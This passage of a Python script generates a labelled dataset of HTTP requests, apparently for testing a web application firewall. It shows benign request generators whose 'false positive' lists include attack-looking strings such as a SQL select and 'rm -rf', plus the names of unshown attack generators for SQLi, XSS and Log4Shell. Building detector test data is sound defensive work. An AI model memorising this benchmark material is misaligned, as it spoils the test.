        txt = R.choice(["Meeting notes", "Shopping list", "Ideas for Q1", "Draft reply"]) + "\n"
        ops = {
            "ops": [
                {"insert": txt.strip()},
                {"attributes": {"header": 2}, "insert": "\n"},
                {"insert": R.choice(PROSE_PLAIN) + "\n"},
                {"attributes": {"bold": True}, "insert": "Next steps"},
                {"insert": "\n"},
            ]
        }
        J("POST", "/api/v1/docs/" + rtoken(10) + "/content", {"delta": ops}, ops["ops"][2]["insert"])

    def ticket_reply(fp):
        def _():
            v = html_fp() if fp else html_plain()
            J(
                "POST",
                "/api/v2/tickets/" + str(R.randint(10000, 99999)) + "/replies",
                {"html_body": PH, "public": True},
                v,
                hard=fp,
            )

        return _

    makers = [
        cms(False),
        cms(True),
        wp(False),
        wp(True),
        email(True),
        rss(False),
        rss(True),
        quill,
        ticket_reply(False),
        ticket_reply(True),
        email(False),
    ]
    run_makers("benign", "benign_richtext", makers, 76)


def gen_benign_search():
    plain = [
        "python list comprehension",
        "winter boots women",
        "hdmi cable 3m",
        "best hiking trails near denver",
        "node.js stream example",
        "vegan lasagna recipe",
        "standing desk",
        "how to change tyre",
        "ergonomic chair lumbar support",
        "tokyo weather december",
        "kids rain jacket",
        "espresso machine under 300",
        "pandas merge on index",
        "react useeffect cleanup",
        "sourdough starter",
        "iphone 16 case",
        "noise cancelling headphones",
        "used bikes berlin",
    ]
    fp = [
        "how to drop a column in pandas",
        "select * from users where id = 1",
        "O'Reilly books",
        "<div> center css",
        "rock & roll",
        '"exact phrase" search',
        "site:stackoverflow.com bash for loop",
        "1/2 inch drill bit",
        "price:<50 headphones",
        "jeans -skinny",
        "men's shoes size 10",
        "AT&T prepaid plans",
        "50% off sale",
        "c++ vector erase",
        "what does 'rm -rf' do",
        "union square parking",
        "script to rename files",
        "how to escape < in html",
        "../ relative path meaning",
        "sql join vs union",
        "alert dialog javascript",
        "wget vs curl",
        "delete from table where",
        "exec summary template",
    ]

    def qv(t):
        return t + R.choice(
            ["", "", "", " 2026", " review", " near me", " cheap", " vs alternatives", " reddit", " uk"]
        )

    def q(fpx):
        def _():
            t = R.choice(fp) if fpx else qv(R.choice(plain))
            path, param = R.choice(
                [
                    ("/search", "q"),
                    ("/api/v1/search", "query"),
                    ("/s", "k"),
                    ("/shop/search", "q"),
                    ("/help/search", "term"),
                    ("/api/v2/products", "search"),
                ]
            )
            Q(
                path,
                param,
                t,
                pre=R.choice(["", "page=" + str(R.randint(1, 5)) + "&", "lang=en&"]),
                post=R.choice(["", "&sort=relevance", "&in_stock=1"]),
                hard=fpx,
            )

        return _

    def facet():
        k, v = R.choice(
            [
                ("filter[brand]", R.choice(["Nike", "Adidas", "Patagonia"])),
                ("filter[price][lte]", str(R.randint(20, 200))),
                ("facets[color][]", R.choice(["black", "navy"])),
                ("f[category]", R.choice(["shoes", "laptops"])),
                ("range[rating][gte]", "4"),
            ]
        )
        QK("/api/v1/products", k, v, pre="q=" + enc(R.choice(plain), True) + "&", hard=True)

    def algolia(fpx):
        def _():
            t = R.choice(fp if fpx else plain)
            J(
                "POST",
                "/1/indexes/products/query",
                {
                    "params": "query="
                    + urllib.parse.quote(t)
                    + "&hitsPerPage=20&facetFilters=%5B%5B%22in_stock%3Atrue%22%5D%5D"
                },
                "query=" + urllib.parse.quote(t) + "&hitsPerPage=20&facetFilters=%5B%5B%22in_stock%3Atrue%22%5D%5D",
                hard=fpx,
            )
            ROWS[-1]["payload"] = t
            ROWS[-1]["_lit"] = True

        return _

    def es(fpx):
        def _():
            t = R.choice(fp) if fpx else qv(R.choice(plain))
            J(
                "POST",
                "/api/v1/search",
                {"query": {"multi_match": {"query": PH, "fields": ["title^3", "body"]}}, "size": 20, "from": 0},
                t,
                hard=fpx,
            )

        return _

    def path_search():
        t = qv(R.choice(plain))
        P("/search/{}", t, raw=urllib.parse.quote(t))

    def form_search(fpx):
        def _():
            t = R.choice(fp) if fpx else qv(R.choice(plain))
            F("POST", "/search", [("q", PH), ("scope", "all")], t, hard=fpx)

        return _

    def intl():
        t = R.choice(
            [
                "東京 ラーメン",
                "crème brûlée rezept",
                "Müsli ohne Zucker",
                "café au lait",
                "Москва погода",
                "جوال سامسونج",
                "piñata cumpleaños",
            ]
        )
        Q("/search", "q", t)

    makers = [
        q(False),
        q(True),
        facet,
        algolia(True),
        es(False),
        es(True),
        path_search,
        form_search(False),
        form_search(True),
        intl,
        q(False),
        q(True),
        algolia(False),
    ]
    run_makers("benign", "benign_search", makers, 76)


def gen_benign_urls():
    plain = [
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
        "https://github.com/acme/web/pull/412",
        "https://docs.python.org/3/library/json.html",
        "https://www.nytimes.com/2026/12/04/technology/ai-chips.html",
        "https://maps.app.goo.gl/" + rtoken(17),
        "https://open.spotify.com/track/" + rtoken(22),
        "https://www.figma.com/file/" + rtoken(22) + "/Checkout-v2",
        "https://calendly.com/jane-doe/30min",
        "https://janedoe.dev",
        "https://cdn.shopwave.io/img/logo.svg",
        "https://example.org/blog/2026/winter-update",
        "https://www.linkedin.com/in/oluwaseun-okafor",
    ]
    fp = [
        "https://en.wikipedia.org/wiki/SQL_injection",
        "https://owasp.org/www-community/attacks/xss/",
        "https://man7.org/linux/man-pages/man5/passwd.5.html",
        "https://medium.com/@jane.doe/why-we-dropped-redux-3f2a1b",
        "https://example.com/search?q=select%20*%20from&page=2",
        "https://docs.python.org/3/library/os.html#os.system",
        "https://app.trellisly.com/#/boards/42?view=list&filter=assignee%3Ame",
        "https://stackoverflow.com/questions/1732348/regex-match-open-tags-except-xhtml-self-contained-tags",
        "https://raw.githubusercontent.com/acme/dotfiles/main/.bashrc",
        "https://www.google.com/url?q=https://example.com/&sa=D&source=editors",
        "https://shop.example.co.uk/cart?add=123&qty=2&ref=email%2Bnov",
        "https://nginx.org/en/docs/http/ngx_http_proxy_module.html#proxy_pass",
    ]

    def redirect(fpx):
        def _():
            v = R.choice(
                [
                    "/dashboard",
                    "/account/orders?page=2",
                    "/checkout?step=payment",
                    "/settings/billing#invoices",
                    "/projects/42/boards?view=kanban",
                ]
            )
            Q(
                R.choice(["/login", "/auth/signin", "/sso/start"]),
                R.choice(["next", "return_to", "redirect", "continue"]),
                v,
                hard=fpx and ("?" in v or "#" in v),
            )

        return _

    def oauth_redirect(fpx):
        def _():
            v = (
                R.choice(
                    [
                        "https://app.trellisly.com/auth/callback",
                        "https://www.shopwave.io/oauth/complete/google",
                        "com.shopwave.app://oauth/callback",
                    ]
                )
                if not fpx
                else R.choice(
                    [
                        "http://localhost:3000/api/auth/callback/github",
                        "http://127.0.0.1:8765/callback",
                        "https://app.trellisly.com/auth/callback?tenant=acme&from=%2Fhome",
                    ]
                )
            )
            Q(
                "/oauth/authorize",
                "redirect_uri",
                v,
                pre="response_type=code&client_id=" + rtoken(20) + "&",
                post="&scope=" + enc("openid profile email") + "&state=" + rtoken(16),
                hard=fpx,
            )

        return _

    def webhook():
        v = R.choice(
            [
                "https://hooks.slack.com/services/T0"
                + rtoken(8).upper()
                + "/B0"
                + rtoken(8).upper()
                + "/"
                + rtoken(24),
                "https://hooks.zapier.com/hooks/catch/" + str(R.randint(10**6, 10**7)) + "/" + rtoken(6).lower() + "/",
                "https://api.acmeworks.com/webhooks/shopwave",
                "https://discord.com/api/webhooks/" + str(R.randint(10**17, 10**18)) + "/" + rtoken(60),
            ]
        )
        J(
            "POST",
            "/api/v1/webhooks",
            {"url": PH, "events": ["order.created", "order.refunded"], "secret": rtoken(24)},
            v,
        )

    def link_share(fpx):
        def _():
            v = R.choice(fp if fpx else plain)
            J(
                "POST",
                "/api/v1/bookmarks",
                {"url": PH, "title": R.choice(["read later", "useful", "for the team", ""]), "tags": ["ref"]},
                v,
                hard=fpx,
            )

        return _

    def website_form(fpx):
        def _():
            v = R.choice(fp if fpx else plain)
            F(
                "POST",
                "/profile/links",
                [("label", R.choice(["Blog", "Portfolio", "Reference"])), ("url", PH)],
                v,
                hard=fpx,
            )

        return _

    def presigned():
        v = (
            "https://acme-uploads.s3.eu-west-1.amazonaws.com/invoices/"
            + rhex(8)
            + ".pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIA"
            + rtoken(16).upper()
            + "%2F20261205%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Date=20261205T101112Z&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature="
            + rhex(64)
        )
        J("POST", "/api/v1/attachments/import", {"source_url": PH}, v, hard=True)

    def image_url():
        v = (
            "https://images.unsplash.com/photo-"
            + str(R.randint(10**12, 10**13))
            + "-"
            + rhex(12)
            + "?w="
            + str(R.choice([400, 800, 1200]))
            + "&q=80&auto=format&fit=crop"
        )
        J("PATCH", "/api/v1/boards/" + str(R.randint(1, 999)), {"cover_image_url": PH}, v)

    def utm(fpx):
        def _():
            v = (
                "https://www.greenleaf-market.com/sale?utm_source="
                + R.choice(["newsletter", "facebook", "google"])
                + "&utm_medium="
                + R.choice(["email", "cpc", "social"])
                + "&utm_campaign="
                + R.choice(["bf2026", "xmas", "winter_sale"])
            )
            Q("/r", "u", v, hard=True)

        return _

    def mailto():
        f, l = person()
        v = (
            "mailto:"
            + email_for(f, l)
            + "?subject="
            + urllib.parse.quote("Question about my order")
            + "&body="
            + urllib.parse.quote("Hi there,")
        )
        J("PUT", "/api/v1/sites/" + rtoken(6) + "/buttons/contact", {"href": PH, "label": "Email us"}, v, hard=True)

    def xml_sitemap():
        v = (
            "https://www.greenleaf-market.com/products/"
            + R.choice(["oak-board", "linen-apron", "ceramic-mug", "beeswax-wraps"])
            + "?variant="
            + str(R.randint(10**9, 10**10))
        )
        X(
            "POST",
            "/api/v1/sitemaps/ping",
            '<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>'
            + v.replace("&", "&amp;")
            + "</loc><changefreq>weekly</changefreq></url></urlset>",
            v,
        )

    def canonical_path():
        v = "https://blog.inkwell.pub/p/" + R.choice(
            ["on-writing-well", "notes-from-lisbon", "year-in-review-2026", "hello-world"]
        )
        P("/api/v1/unfurl/{}", v, raw=urllib.parse.quote(v, safe=""), hard=True)

    makers = [
        redirect(False),
        redirect(True),
        oauth_redirect(False),
        oauth_redirect(True),
        webhook,
        link_share(False),
        link_share(True),
        website_form(False),
        website_form(True),
        presigned,
        image_url,
        utm(True),
        mailto,
        xml_sitemap,
        canonical_path,
        link_share(False),
        redirect(False),
    ]
    run_makers("benign", "benign_urls", makers, 76)


# =====================================================================
# VALIDATION + OUTPUT
# =====================================================================


def _strings(obj, out):
    if isinstance(obj, dict):
        out.add(json.dumps(obj, separators=(",", ":"), ensure_ascii=False))
        for k, v in obj.items():
            out.add(k)
            out.add(json.dumps({k: v}, separators=(",", ":"), ensure_ascii=False))
            _strings(v, out)
    elif isinstance(obj, list):
        for v in obj:
            _strings(v, out)
    elif isinstance(obj, str):
        out.add(obj)


def _check(row):
    import html
    import xml.etree.ElementTree as ET

    rid = row["id"]
    h = row["headers"]
    assert list(h)[:3] == ["Host", "User-Agent", "Accept"], rid
    body = row["body"]
    if body:
        assert "Content-Type" in h, rid
    for k, v in h.items():
        assert all(32 <= ord(c) < 127 for c in v), (rid, k, v)
    path, query = row["path"], row["query"]
    assert path.startswith("/") and all(33 <= ord(c) < 127 for c in path) and "?" not in path and "#" not in path, (
        rid,
        path,
    )
    assert all(33 <= ord(c) < 127 for c in query) and "#" not in query, (rid, query)
    ct = h.get("Content-Type", "") if body else ""
    if "json" in ct:
        json.loads(body)
    elif "x-www-form-urlencoded" in ct:
        assert all(33 <= ord(c) < 127 for c in body), rid
    elif ct.startswith("multipart/form-data"):
        b = ct.split("boundary=", 1)[1]
        assert body.startswith("--" + b + "\r\n") and body.endswith("\r\n--" + b + "--\r\n"), rid
        for seg in body.split("--" + b)[1:-1]:
            assert seg.startswith('\r\nContent-Disposition: form-data; name="'), rid
            assert "\r\n\r\n" in seg and seg.endswith("\r\n"), rid
    elif "xml" in ct and row["label"] == "benign":
        ET.fromstring(body.encode())
    if row["_lit"]:
        return
    p = row["payload"]
    pl = row["placement"]
    if pl == "query":
        vals = [v for _, v in urllib.parse.parse_qsl(query, keep_blank_values=True)]
        assert p in vals, (rid, p, query)
    elif pl == "query_key":
        pairs = urllib.parse.parse_qsl(query, keep_blank_values=True)
        assert any(f"{k}={v}" == p or k == p for k, v in pairs), (rid, p, query)
    elif pl == "path":
        assert p in urllib.parse.unquote(path), (rid, p, path)
    elif pl == "form":
        pairs = urllib.parse.parse_qsl(body, keep_blank_values=True)
        assert any(v == p or f"{k}={v}" == p for k, v in pairs), (rid, p, body)
    elif pl in ("json", "json_key"):
        out = set()
        _strings(json.loads(body), out)
        assert p in out, (rid, p)
    elif pl == "cookie":
        vals = [urllib.parse.unquote(c.split("=", 1)[1]) for c in h["Cookie"].split("; ") if "=" in c]
        assert p in vals, (rid, p, h["Cookie"])
    elif pl == "header":
        assert p in h.values(), rid
    elif pl == "multipart":
        if p not in body:
            k, v = p.split("=", 1)
            assert f'name="{k}"\r\n\r\n{v}\r\n' in body, rid
    elif pl == "xml":
        assert p in body or p in html.unescape(body), (rid, p)
    else:
        raise AssertionError(pl)


ATTACK_GENS = [
    gen_cmdi,
    gen_code_injection,
    gen_crlf,
    gen_ldapi,
    gen_log4shell,
    gen_mail_injection,
    gen_nosqli,
    gen_path_traversal,
    gen_php_injection,
    gen_prototype_pollution,
    gen_rfi,
    gen_sqli,
    gen_ssrf,
    gen_ssti,
    gen_xss,
    gen_xxe,
]
BENIGN_GENS = [
    gen_benign_api_json,
    gen_benign_base64,
    gen_benign_code,
    gen_benign_cookies,
    gen_benign_files,
    gen_benign_forms,
    gen_benign_graphql,
    gen_benign_headers,
    gen_benign_jwt,
    gen_benign_markdown,
    gen_benign_prose,
    gen_benign_richtext,
    gen_benign_search,
    gen_benign_urls,
]


def main():
    for g in ATTACK_GENS + BENIGN_GENS:
        g()
    ids = set()
    for row in ROWS:
        _check(row)
        assert row["id"] not in ids
        ids.add(row["id"])
    out_path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "waf_unseen_fifth.jsonl")
    with open(out_path, "w", encoding="utf-8", newline="\n") as fh:
        for row in ROWS:
            r = OrderedDict((k, v) for k, v in row.items() if k != "_lit")
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")
    counts = {}
    for row in ROWS:
        counts[row["category"]] = counts.get(row["category"], 0) + 1
    print(f"wrote {len(ROWS)} rows to {out_path}")
    for k in sorted(counts):
        print(f"  {k:24s} {counts[k]}")


if __name__ == "__main__":
    main()
